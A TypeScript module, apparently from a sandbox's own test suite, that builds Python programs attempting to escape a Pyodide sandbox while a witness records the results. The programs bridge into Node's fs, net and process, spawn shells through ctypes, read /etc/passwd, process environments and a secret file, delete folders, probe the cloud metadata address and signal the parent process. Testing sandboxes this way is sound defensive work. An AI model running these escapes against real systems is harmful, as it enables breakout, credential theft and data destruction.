import type { Attack } from '../attacks.ts'
import type { Targets } from '../witness.ts'

/** Every attempt is made, whatever became of the one before; what it got is printed, for the witness to read. */
const attempts = (preparation: string, tried: readonly string[]): string => `import os, sys, gc
def show(value):
    try: print(str(value)[:2000])
    except BaseException: pass
def attempt(action):
    try: show(action())
    except BaseException as error: show(error)
${preparation}
def f():
${tried.map((each) => `    attempt(lambda: ${each})`).join('\n')}
    return 1
`

/** Everything of JavaScript that Python can find, under the name \`found\`. */
const findJavaScript = `import importlib
def found():
    for name in ("js", "pyodide_js", "pyodide_js._api", "pyodide_js._module"):
        try: yield importlib.import_module(name)
        except BaseException: pass
    from pyodide.ffi import to_js, JsProxy, create_proxy
    for value in ({}, [], b"", 1.5, lambda: 1, object(), ValueError("x")):
        try: yield to_js(value)
        except BaseException: pass
    try: yield create_proxy(lambda *_: 1)
    except BaseException: pass
    for each in gc.get_objects():
        if isinstance(each, JsProxy): yield each
        try:
            for other in gc.get_referents(each):
                if isinstance(other, JsProxy): yield other
        except BaseException: pass
    for module in list(sys.modules.values()):
        for value in list(vars(module).values()):
            if isinstance(value, JsProxy): yield value
    try: to_js(object.__new__(object), dict_converter=lambda *_: 1)
    except BaseException as error:
        if isinstance(getattr(error, "js_error", None), JsProxy): yield error.js_error
`

const inJavaScript = ({ folder, secretFile, tcp, parent }: Targets) => `
(async () => {
  const p = globalThis.process ?? {}
  const fs = p.getBuiltinModule?.('fs') ?? await import('node:fs')
  fs.writeFileSync(${JSON.stringify(`${folder}/from-javascript`)}, 'x')
  const net = p.getBuiltinModule?.('net') ?? await import('node:net')
  net.connect(${tcp}, '127.0.0.1').end('from javascript')
  p.kill?.(${parent}, 'SIGUSR2')
  return fs.readFileSync(${JSON.stringify(secretFile)}, 'utf8')
})()`

const bridges = (targets: Targets): string => {
  const script = JSON.stringify(inJavaScript(targets))
  const file = JSON.stringify(`${targets.folder}/from-python`)
  return attempts(
    `${findJavaScript}
SCRIPT = ${script}
def constructors(value):
    for _ in range(4):
        value = value.constructor
        yield value
def evaluate():
    for value in found():
        for maker in constructors(value):
            for call in (lambda: maker(SCRIPT)(), lambda: maker.new(SCRIPT)(), lambda: maker("return " + SCRIPT)()):
                attempt(call)
def reach(path):
    for value in found():
        for each in path.split("."): value = getattr(value, each, None)
        if value is not None: yield value
def properties():
    for value in found():
        for name in ("process", "require", "globalThis", "global", "fetch", "self", "window", "module", "Deno", "Bun"):
            inner = getattr(value, name, None)
            if inner is None: continue
            attempt(lambda: inner.getBuiltinModule("fs").writeFileSync(${file}, "x"))
            attempt(lambda: inner("node:fs").writeFileSync(${file}, "x"))
            attempt(lambda: inner.kill(${targets.parent}, "SIGUSR2"))
            attempt(lambda: inner.process.kill(${targets.parent}, "SIGUSR2"))
            attempt(lambda: inner("http://127.0.0.1:${targets.tcp}/from-fetch"))
def code():
    from pyodide.code import run_js
    return run_js(SCRIPT)
def stacks():
    from pyodide.ffi import create_proxy, to_js
    def sites(error, stack):
        for site in stack:
            for name in ("getThis", "getFunction", "getEvalOrigin"):
                inner = getattr(site, name)()
                if inner is None or isinstance(inner, str): continue
                show(inner)
                attempt(lambda: inner.process.kill(${targets.parent}, "SIGUSR2"))
                attempt(lambda: inner.arguments[0].process.kill(${targets.parent}, "SIGUSR2"))
        return "seen"
    for value in found():
        try: value.constructor.constructor("x")
        except BaseException as error:
            kind = error.js_error.constructor
            kind.prepareStackTrace = create_proxy(sites)
            base = to_js({}).constructor.getPrototypeOf(kind)
            base.prepareStackTrace = create_proxy(sites)
            for each in (kind, base): attempt(lambda: each.new("x").stack)
            attempt(lambda: value.constructor.constructor("x"))
            return "tried"
def module_methods():
    for value in found():
        for name in ("runPythonAsync", "loadPackage", "loadPackagesFromImports", "mountNodeFS", "useNodeSockFS", "loadBinaryFile", "unpackArchive"):
            call = getattr(value, name, None)
            if call is not None:
                attempt(lambda: call("http://127.0.0.1:${targets.tcp}/x"))
                attempt(lambda: call("/tmp/x", "/"))
                attempt(lambda: call())
def node_files():
    for value in found():
        FS = getattr(value, "FS", None)
        if FS is None: continue
        from pyodide.ffi import to_js
        os.makedirs("/host", exist_ok=True)
        for kind in ("NODEFS", "PROXYFS", "WORKERFS", "NODERAWFS"):
            system = getattr(FS.filesystems, kind, None) or getattr(getattr(value, "_module", None), kind, None)
            options = to_js({}).constructor.new()
            options.root = "/"
            attempt(lambda: FS.mount(system, options, "/host"))
            attempt(lambda: open("/host" + ${file}, "w").write("x"))
            attempt(lambda: open("/host" + ${JSON.stringify(targets.secretFile)}).read())
        attempt(lambda: FS.createLazyFile("/", "lazy", "http://127.0.0.1:${targets.tcp}/lazy", True, False))
        attempt(lambda: open("/lazy").read())
def sockets():
    for value in found():
        api = getattr(value, "_api", None) or value
        for name in ("initializeNodeSockFS", "_nodeSock", "loadBinaryFile", "loadDynlib", "tests", "public_api"):
            inner = getattr(api, name, None)
            if inner is not None: attempt(lambda: inner(${JSON.stringify(targets.secretFile)}))
def imports():
    for name in ("js", "pyodide_js", "js.process", "pyodide_js._api"):
        attempt(lambda: __import__(name).process.kill(${targets.parent}, "SIGUSR2"))
`,
    ['evaluate()', 'properties()', 'code()', 'stacks()', 'module_methods()', 'node_files()', 'sockets()', 'imports()', 'list(reach("constructor.constructor"))'],
  )
}

const processes = ({ folder, mark }: Targets): string => {
  const command = JSON.stringify(`touch ${folder}/from-a-process; sleep 20; : ${mark}`)
  return attempts('import subprocess, threading, ctypes, multiprocessing, pty, signal, time\nfrom concurrent.futures import ProcessPoolExecutor', [
    `os.system(${command})`,
    `os.popen(${command}).read()`,
    `subprocess.Popen(["/bin/sh", "-c", ${command}], start_new_session=True)`,
    `subprocess.run(${command}, shell=True, capture_output=True)`,
    `os.posix_spawn("/bin/sh", ["sh", "-c", ${command}], {})`,
    `os.spawnl(os.P_NOWAIT, "/bin/sh", "sh", "-c", ${command})`,
    `os.execv("/bin/sh", ["sh", "-c", ${command}])`,
    `os.fork() or os.execv("/bin/sh", ["sh", "-c", ${command}])`,
    `os.forkpty()`,
    `pty.spawn(["/bin/sh", "-c", ${command}])`,
    `multiprocessing.Process(target=print).start()`,
    `ProcessPoolExecutor().submit(print).result()`,
    `threading.Thread(target=lambda: time.sleep(20)).start()`,
    `os.setsid()`,
    `os.nice(-5)`,
    `ctypes.CDLL(None).system(${command}.encode())`,
    `ctypes.CDLL(None).fork()`,
    `ctypes.CDLL(None).execl(b"/bin/sh", b"sh", b"-c", ${command}.encode(), None)`,
    `ctypes.CDLL(None).popen(${command}.encode(), b"r")`,
    `ctypes.CDLL("/lib/x86_64-linux-gnu/libc.so.6").system(${command}.encode())`,
    `ctypes.pythonapi.PyRun_SimpleString(b"import os; os.system(${command.replaceAll('"', "'")})")`,
  ])
}

/** Each of these breaks the interpreter, so each has a run of its own. */
const emscripten = (targets: Targets): readonly string[] => {
  const script = JSON.stringify(inJavaScript(targets))
  return [
    `C.emscripten_run_script(${script}.encode())`,
    `C.emscripten_run_script_int(${script}.encode())`,
    `ctypes.CFUNCTYPE(ctypes.c_char_p, ctypes.c_char_p)(("emscripten_run_script_string", C))(${script}.encode())`,
    `C.emscripten_asm_const_int(${script}.encode(), b"", 0)`,
  ]
}

const librariesInC = (targets: Targets): string => {
  const script = JSON.stringify(inJavaScript(targets))
  return attempts('import ctypes, time\nC = ctypes.CDLL(None)', [
    `C.emscripten_async_run_script(${script}.encode(), 0)`,
    `C.emscripten_set_timeout(C.emscripten_run_script, 0, ${script}.encode())`,
    `C.run_js(${script}.encode())`,
    'C.JsProxy_create(1)',
    `ctypes.CDLL(${JSON.stringify(`${targets.folder}/x.so`)})`,
    'ctypes.CDLL("/lib/x86_64-linux-gnu/libc.so.6")',
    'time.sleep(0.1)',
  ])
}

const core = (targets: Targets): string =>
  attempts(
    `import _pyodide_core
def everything():
    for name in dir(_pyodide_core):
        attempt(lambda: getattr(_pyodide_core, name)(${JSON.stringify(inJavaScript(targets))}))
`,
    ['everything()'],
  )

const files = ({ folder, secretFile, checkout, parent }: Targets): string => {
  const paths = [secretFile, `${checkout}/package.json`, '/etc/passwd', '/proc/1/environ', `/proc/${parent}/environ`, '/proc/self/environ', `/proc/${parent}/cmdline`]
  return attempts(
    `import glob, shutil, pathlib, sqlite3 if False else glob
PATHS = ${JSON.stringify(paths)}
def outside(path):
    for prefix in ("", "/host", "/proc/self/root", "/exercise/" + "../" * 12, "/dev/fd/3/../../.."):
        attempt(lambda: open(prefix + path).read())
        attempt(lambda: os.open(prefix + path, os.O_RDWR))
        attempt(lambda: os.listdir(os.path.dirname(prefix + path)))
def links():
    os.symlink(${JSON.stringify(secretFile)}, "/tmp/link")
    return open("/tmp/link").read()
def descriptors():
    for fd in range(100):
        attempt(lambda: os.read(fd, 0) if fd < 5 else os.pread(fd, 4096, 0))
`.replace(', sqlite3 if False else glob', ''),
    [
      '[outside(path) for path in PATHS]',
      `open(${JSON.stringify(`${folder}/from-python`)}, "w").write("x")`,
      `os.mkdir(${JSON.stringify(`${folder}/made-by-python`)})`,
      `shutil.rmtree(${JSON.stringify(folder)})`,
      `os.rename(${JSON.stringify(secretFile)}, ${JSON.stringify(`${folder}/moved`)})`,
      'links()',
      'descriptors()',
      'glob.glob("/**/*secret*", recursive=True)',
      'os.chroot("/proc/1/root")',
      'os.mknod("/tmp/disk", 0o666, os.makedev(8, 0))',
    ],
  )
}

const network = ({ tcp, udp }: Targets): string =>
  attempts(
    `import socket, urllib.request, http.client, ssl, asyncio, ftplib, smtplib
def tcp(host, port):
    with socket.create_connection((host, port), 0.2) as s: s.sendall(b"from python"); return s.recv(100)
def raw(kind, host, port):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(0.2); s.connect((host, port)); s.send(b"from python")
def selected():
    s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", ${tcp})); s.send(b"from python")
async def streams():
    reader, writer = await asyncio.open_connection("127.0.0.1", ${tcp}); writer.write(b"from python"); await writer.drain()
def pyodide_http():
    from pyodide.http import open_url, pyfetch
    attempt(lambda: open_url("http://127.0.0.1:${tcp}/"))
    attempt(lambda: asyncio.run(pyfetch("http://127.0.0.1:${tcp}/")))
def server():
    s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen(); return s.getsockname()
def websocket():
    s = socket.socket(); s.connect(("ws://127.0.0.1:${tcp}", ${tcp})); s.send(b"from python")
`,
    [
      `tcp("127.0.0.1", ${tcp})`,
      `tcp("localhost", ${tcp})`,
      `tcp("169.254.169.254", 80) and "CONNECTED TO METADATA"`,
      `raw(socket.SOCK_STREAM, "127.0.0.1", ${tcp})`,
      `raw(socket.SOCK_DGRAM, "127.0.0.1", ${udp})`,
      `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"from python", ("127.0.0.1", ${udp}))`,
      'socket.getaddrinfo("example.org", 80)',
      'selected()',
      'asyncio.run(streams())',
      `urllib.request.urlopen("http://127.0.0.1:${tcp}/", timeout=0.2).read()`,
      `http.client.HTTPConnection("127.0.0.1", ${tcp}, timeout=0.2).request("GET", "/")`,
      'pyodide_http()',
      'server()',
      'websocket()',
    ],
  )

const signals = ({ parent }: Targets): string =>
  attempts('import signal, ctypes', [
    ...['SIGTERM', 'SIGUSR2', 'SIGHUP', 'SIGINT'].flatMap((name) => [
      `os.kill(${parent}, signal.${name})`,
      `os.kill(os.getppid(), signal.${name})`,
      `ctypes.CDLL(None).kill(${parent}, int(signal.${name}))`,
    ]),
    'os.killpg(os.getpgrp(), signal.SIGUSR2)',
    'os.killpg(0, signal.SIGUSR2)',
    'os.kill(-1, signal.SIGUSR2)',
    `ctypes.CDLL(None).killpg(${parent}, 12)`,
    `ctypes.CDLL(None).tkill(${parent}, 12)`,
  ])

const environment = ({ parent }: Targets): string =>
  attempts('import ctypes, platform', [
    'dict(os.environ)',
    'ctypes.c_char_p.in_dll(ctypes.CDLL(None), "environ").value',
    'ctypes.CFUNCTYPE(ctypes.c_char_p, ctypes.c_char_p)(("getenv", ctypes.CDLL(None)))(b"WITNESS_SECRET")',
    `open("/proc/${parent}/environ").read()`,
    'open("/proc/self/environ").read()',
    'platform.uname()',
    'sys.argv',
  ])

export const pythonEscapes: readonly Attack[] = [
  { name: 'bridges to JavaScript', language: 'python', code: bridges, limits: { wallMs: 8_000, memoryMb: 128 } },
  { name: 'processes, forks, threads and daemons', language: 'python', code: processes },
  { name: 'everything of Pyodide\'s core', language: 'python', code: core, ends: ['passed', 'crashed'], modes: ['single'] },
  ...[0, 1, 2, 3].map((index): Attack => ({
    name: `function ${index + 1} of Emscripten that evaluates JavaScript`,
    language: 'python',
    code: (targets) => `import ctypes\nC = ctypes.CDLL(None)\ndef f():\n    ${emscripten(targets)[index]}\n    return 1\n`,
    ends: ['passed', 'failed', 'crashed'],
    modes: ['single'],
  })),
  { name: 'libraries in C', language: 'python', code: librariesInC },
  { name: 'files of the machine, the checkout and other processes', language: 'python', code: files },
  { name: 'TCP, UDP, DNS, HTTP and WebSocket', language: 'python', code: network },
  { name: 'signals to the parent and the group', language: 'python', code: signals },
  { name: 'the environment', language: 'python', code: environment },
]
